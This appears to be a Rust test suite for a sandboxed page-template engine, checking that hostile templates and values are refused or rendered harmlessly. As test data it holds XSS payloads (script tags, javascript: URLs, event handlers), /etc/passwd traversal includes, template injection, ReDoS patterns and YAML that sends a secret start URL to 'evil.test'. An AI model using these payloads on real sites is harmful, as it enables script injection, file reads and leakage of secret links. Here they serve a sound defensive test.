//! Hostile templates and hostile values: each ends in a clear error or in harmless text.

mod common;

use microapp_templates::{Diagnostic, PageContext, RenderError, Template};
use serde_json::json;

/// The findings for a read page with this text.
fn checked(text: &str) -> Vec<Diagnostic> {
    let mut files = common::fixture();
    files.insert("pages/invitation.html".to_owned(), text.to_owned());
    Template::check(&common::bundle(&files), &common::actions())
}

#[track_caller]
fn refused(text: &str, code: &str) {
    let findings = checked(text);
    let found = findings
        .iter()
        .any(|finding| finding.code == code && finding.file.starts_with("pages/"));
    assert!(found, "{text}: expected {code}, but\n{}", common::shown(&findings));
}

fn loaded(text: &str) -> Template {
    let mut files = common::fixture();
    files.insert("pages/invitation.html".to_owned(), text.to_owned());
    Template::load(&common::bundle(&files), &common::actions())
        .unwrap_or_else(|findings| panic!("{}", common::shown(&findings)))
}

fn drawn(template: &Template, text: &str) -> Result<String, RenderError> {
    let mut context = PageContext::new(template.locale("en"));
    let output =
        json!({"topic": text, "text": text, "join_url": text, "meeting_id": text, "start": text, "time_zone": text});
    template.put_output(&mut context, "invitation", "get-invitation", &output);
    template
        .render_page("invitation", &context)
        .map(|html| html.into_string())
}

#[test]
fn an_endless_loop_runs_out_of_fuel() {
    let loops = "{% for a in range(1000) %}{% for b in range(1000) %}{% for c in range(1000) %}{% set x = c %}{% endfor %}{% endfor %}{% endfor %}";
    let error = drawn(&loaded(loops), "x").unwrap_err();
    assert!(matches!(error, RenderError::TooLong { .. }), "{error}");
    assert!(
        error.to_string().contains("pages/invitation.html takes more than"),
        "{error}"
    );
}

#[test]
fn a_huge_page_is_cut_off_while_it_is_written() {
    let text = format!("{{% for a in range(1000) %}}{}{{% endfor %}}", "x".repeat(10_000));
    let error = drawn(&loaded(&text), "x").unwrap_err();
    assert!(matches!(error, RenderError::TooLarge { .. }), "{error}");
}

#[test]
fn texts_can_not_double_themselves() {
    for text in [
        "{% set a = invitation.text ~ invitation.text %}",
        "{% set a = [invitation.text, invitation.text] %}",
        "{% set a = [1, 2] | join(invitation.text) %}",
        "{% set a = t('hello', name=invitation.text) %}",
        "{% set a = lines([[1, invitation.text]]) %}",
        "{% with a = card(invitation.text, invitation.text) %}{% endwith %}",
        "{% for a in [invitation.text ~ invitation.text] %}{% endfor %}",
        "{% set a = invitation.text + 'x' %}",
    ] {
        refused(text, "builds-text");
    }
    refused("{{ 'a' * 100000000 }}", "not-allowed");
    refused(&format!("{{{{ 'a'{} }}}}", " ~ 'a'".repeat(300)), "not-allowed");
    refused("{% set a %}{{ invitation.text }}{% endset %}", "not-allowed");
    refused("{% macro a() %}x{% endmacro %}", "not-allowed");
    refused("{% filter upper %}x{% endfilter %}", "not-allowed");
    // Values of the data may have names.
    assert_eq!(
        checked("{% set a = invitation.text %}{{ a }}{{ button('mail') }}{{ image('logo') }}")
            .iter()
            .filter(|finding| finding.file.starts_with("pages/"))
            .count(),
        0
    );
}

#[test]
fn lines_of_values_are_text_and_what_is_empty_is_left_out() {
    let text = "<pre>{{ lines([['To', invitation.topic], ['Empty', ''], ['None', none], ['Who', ['a', 2]]]) }}</pre>";
    let shown = drawn(&loaded(text), " <b>\r\n").unwrap();
    assert_eq!(shown.trim(), "<pre>To: &lt;b&gt;\nWho: a, 2</pre>");
    let page = loaded("{{ lines([['To', {'a': 1}]]) }}");
    let error = drawn(&page, "x").unwrap_err().to_string();
    assert!(error.contains("a text, a number or a list"), "{error}");
}

#[test]
fn no_file_is_included_but_partials_of_the_bundle() {
    for name in [
        "/etc/passwd",
        "../../etc/passwd",
        "template.yaml",
        "pages/invitation.html",
        "pages/partials/../invitation.html",
    ] {
        refused(&format!("{{% include '{name}' %}}"), "bad-include");
    }
    refused("{% include invitation.text %}", "bad-include");
    refused("{% import 'pages/partials/dates.html' as x %}", "not-allowed");
    refused("{% extends 'pages/partials/dates.html' %}", "not-allowed");
}

#[test]
fn what_a_page_does_not_have_is_told_before_it_is_drawn() {
    refused("{{ open('/etc/passwd') }}", "unknown-function");
    refused("{{ 'x' | safe }}", "unknown-filter");
    refused("{{ debug() }}", "unknown-function");
    refused("{{ _host }}", "undefined-variable");
    refused("{{ invitation.text.upper() }}", "not-allowed");
    refused(
        "{% autoescape false %}{{ invitation.text }}{% endautoescape %}",
        "not-allowed",
    );
}

#[test]
fn deep_recursion_is_an_error() {
    refused("{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}", "not-allowed");
    let mut files = common::fixture();
    files.insert(
        "pages/partials/a.html".to_owned(),
        "{% include 'pages/partials/a.html' %}".to_owned(),
    );
    files.insert(
        "pages/invitation.html".to_owned(),
        "{% include 'pages/partials/a.html' %}".to_owned(),
    );
    let findings = Template::check(&common::bundle(&files), &common::actions());
    assert!(
        findings
            .iter()
            .any(|finding| finding.code == "bad-include" && finding.message.contains("includes itself"))
    );
    refused(
        &format!("{{{{ {}1{} }}}}", "(".repeat(5_000), ")".repeat(5_000)),
        "template-syntax",
    );
    refused(
        &format!("{}x{}", "{% if 1 %}".repeat(5_000), "{% endif %}".repeat(5_000)),
        "template-syntax",
    );
}

#[test]
fn markup_that_could_run_is_refused() {
    for text in [
        "<script>alert(1)</script>",
        "<SCRIPT src='x'></SCRIPT>",
        "<img src='https://x.example/' onerror='alert(1)'>",
        "<p style='position: fixed'>x</p>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' JavaScript:alert(1)'>x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<iframe src='https://x.example'></iframe>",
        "<form action='https://x.example'><input></form>",
        "<p onclick=\"{{ invitation.text }}\">x</p>",
        "<p {{ invitation.text }}>x</p>",
        "<p title={{ invitation.text }}>x</p>",
        "<{{ invitation.text }}>x",
        "<!-- {{ invitation.text }} -->",
        "<a href=\"{% if user.name %}javascript:{% endif %}{{ invitation.text | url }}\">x</a>",
        "{% if user.name %}<a title=\"{% else %}<p>{% endif %}",
        "<a href=\"{% if user.name %}https://{% endif %}{{ invitation.text | url }}\">x</a>",
        "<a href=\"{% for a in [1] %}javascript:{% endfor %}{{ invitation.text | url }}\">x</a>",
        "<a href=\"java{{ invitation.text }}\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<!--><p>x</p><!-- -->",
        "<meta http-equiv='refresh' content='0'>",
        "<!DOCTYPE html>",
        "<a href='x",
        "<svg><animate onbegin=alert(1)></svg>",
    ] {
        refused(text, "bad-markup");
    }
    refused("<a href=\"{{ invitation.join_url }}\">x</a>", "unsafe-address");
    refused("<img src=\"{{ user.name | upper }}\" alt=\"\">", "unsafe-address");
    // Browsers pass over what is blank before an address.
    refused("<a href=\" {{ invitation.text }}\">x</a>", "unsafe-address");
    refused("<a href=\"\n\u{1}{{ invitation.text }}\">x</a>", "unsafe-address");
}

#[test]
fn script_in_any_value_ends_as_text() {
    let page = "\
        <p title=\"{{ invitation.topic }}\">{{ invitation.topic }}</p>\
        <a href=\"{{ invitation.join_url | url }}\">x</a><a href=\"tel:{{ invitation.text }}\">y</a>\
        {{ list([invitation.topic, invitation.text]) }}{{ card(invitation.topic, invitation.text, url=invitation.join_url) }}\
        {{ summary([[invitation.topic, invitation.text]]) }}{{ copy_block('c', invitation.text, title=invitation.topic) }}\
        {{ link(invitation.topic, invitation.join_url) }}{{ t('hello', name=invitation.text) }}\
        {{ [invitation.text] | and_list }}{{ [invitation.text] | join }}\
        {{ table([invitation], columns=[{'label': invitation.topic, 'value': 'text', 'page': 'book'}], caption=invitation.topic) }}\
        {{ qr(invitation.text, label=invitation.topic) }}\
        {{ page_url('book') }}{{ button('mail') }}{{ image('logo') }}\
        {{ calendar_url('google', title=invitation.topic, start='2027-01-01T00:00:00Z', minutes=60) }}";
    let template = loaded(page);
    for attack in [
        "<script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "\u{1}javascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>1</script>",
        "vbscript:x",
        "{{ 7 }}{% include 'x' %}",
        "</pre></textarea><script>",
        "<!--",
        "\0<script>",
        "//evil.example/",
    ] {
        let html = drawn(&template, attack).unwrap();
        let lower = html.to_lowercase();
        assert!(
            !lower.contains("<script") && !lower.contains("<!--"),
            "{attack}: {html}"
        );
        assert!(
            !lower.contains(" onmouseover='") && !lower.contains(" onmouseover=\""),
            "{attack}: {html}"
        );
        for part in lower.split("href=\"").skip(1) {
            let address: String = part.split('"').next().unwrap().to_owned();
            let harmless = ["https://", "http://", "mailto:", "tel:", "/", "#"]
                .iter()
                .any(|start| address.starts_with(start));
            assert!(harmless && !address.starts_with("//"), "{attack}: {address}");
        }
    }
}

#[test]
fn values_that_do_not_fit_are_errors_with_a_line() {
    let error = drawn(
        &loaded("\n{{ image('logo') }}{{ button('mail') }}{{ invitation.start | date }}"),
        "no date",
    )
    .unwrap_err();
    let expected = RenderError::Failed {
        file: "pages/invitation.html".to_owned(),
        line: 2,
        message: "`no date` is no date; give one such as `2027-03-22`, `2027-03-22T10:00` or `2027-03-22T10:00:00Z`"
            .to_owned(),
    };
    assert_eq!(error, expected);
    let error = drawn(
        &loaded("{{ image('logo') }}{{ button('mail') }}{{ invitation.occurrences }}{{ invitation }}"),
        "x",
    )
    .unwrap_err();
    assert!(error.to_string().contains("can't be printed"), "{error}");
}

/// The findings for a button of the invitation that is given a secret address, and goes on so.
fn with_secret(then: &str) -> Vec<Diagnostic> {
    let mut files = common::fixture();
    let yaml = files.get_mut("template.yaml").unwrap();
    let declared = "    - name: list-users\n";
    *yaml = yaml.replacen(
        declared,
        &format!("    - {{ name: get-start-url, inputs: [meeting_id] }}\n{declared}"),
        1,
    );
    let (before, _) = yaml.split_once("          then:\n            - mail:").unwrap();
    *yaml = format!(
        "{before}          action: get-start-url\n          input: {{ meeting_id: {{ param: meeting_id }} }}\n          \
         as: address\n          then:\n            - {then}\n"
    );
    Template::check(&common::bundle(&files), &common::actions())
}

#[test]
fn a_secret_address_is_opened_as_it_is_and_goes_nowhere_else() {
    let findings = with_secret("link: { expression: address.start_url }");
    assert!(findings.is_empty(), "{}", common::shown(&findings));
    for then in [
        "link: { expression: \"'https://evil.test/?' ~ address.start_url\" }",
        "link: { expression: \"address.start_url | replace('zoom.us', 'evil.test')\" }",
        "link: { value: 'https://evil.test/' }",
        "page: book",
        "mail: { body: { expression: address.start_url } }",
        "action: create-meeting",
    ] {
        let findings = with_secret(then);
        let found = findings
            .iter()
            .any(|finding| finding.code == "secret-output" && finding.suggestion.is_some());
        assert!(found, "{then}: {}", common::shown(&findings));
    }
}

#[test]
fn a_secret_is_nothing_that_a_page_can_load() {
    let mut files = common::fixture();
    let yaml = files.get_mut("template.yaml").unwrap();
    *yaml = yaml.replace("name: get-invitation", "name: get-start-url");
    *yaml = yaml.replace("action: get-invitation", "action: get-start-url");
    let findings = Template::check(&common::bundle(&files), &common::actions());
    let told = findings.iter().find(|finding| finding.code == "secret-output");
    let told = told.unwrap_or_else(|| panic!("{}", common::shown(&findings)));
    assert_eq!(told.source_line.as_deref(), Some("        - action: get-start-url"));
}

#[test]
fn large_yaml_and_slow_patterns_do_no_harm() {
    let mut files = common::fixture();
    files.insert("template.yaml".to_owned(), format!("a: {}", "[".repeat(10_000)));
    assert!(!Template::check(&common::bundle(&files), &common::actions()).is_empty());
    let mut files = common::fixture();
    let schema = files.get_mut("forms/book.schema.json").unwrap();
    *schema = schema.replace("\"maxLength\": 40", "\"pattern\": \"^(a+)+$\"");
    let template = Template::load(&common::bundle(&files), &common::actions()).unwrap();
    let form = template.page("book").unwrap().form.as_ref().unwrap();
    let sent = microapp_templates::form::Fields::new([("room".to_owned(), format!("{}!", "a".repeat(50_000)))]);
    let errors = form.parse(&sent, &template.locale("en"), &Default::default()).errors;
    assert!(
        errors
            .iter()
            .any(|error| error.field.as_deref() == Some("room") && error.code == "pattern")
    );
}
